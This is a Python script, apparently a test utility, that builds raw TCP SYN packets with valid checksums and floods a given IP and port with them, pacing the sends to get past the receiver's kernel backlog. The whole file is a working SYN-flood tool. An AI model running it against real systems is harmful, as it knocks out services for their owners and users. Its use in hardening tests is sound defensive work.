#!/usr/bin/env python3
"""SYN flood for the hardening test: COUNT TCP SYNs from SRC_IP (random source ports and
sequence numbers) to DST_IP:DST_PORT through a raw socket. Prints the number sent."""
import random, socket, struct, sys, time

src, dst, dport, count = sys.argv[1], sys.argv[2], int(sys.argv[3]), int(sys.argv[4])

def checksum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF

def syn(sport, seq):
    # MSS 1460 option; data offset 6 words.
    opts = struct.pack("!BBH", 2, 4, 1460)
    hdr = struct.pack("!HHIIBBHHH", sport, dport, seq, 0, 6 << 4, 0x02, 64240, 0, 0) + opts
    pseudo = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack("!BBH", 0, 6, len(hdr))
    c = checksum(pseudo + hdr)
    return hdr[:16] + struct.pack("!H", c) + hdr[18:]

s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)
rng = random.Random(int(sys.argv[5]) if len(sys.argv) > 5 else 1)
ports = rng.sample(range(1024, 65536), count)
for i, p in enumerate(ports):
    s.sendto(syn(p, rng.getrandbits(32)), (dst, 0))
    # A breath every 64 SYNs: the receiving side's per-CPU backlog (netdev_max_backlog,
    # 1000 by default) would otherwise drop most of the flood on a busy machine before the
    # engine sees it, and the test is about the engine, not the kernel's queue.
    if i % 64 == 63:
        time.sleep(0.001)
print(f"sent {count}", flush=True)
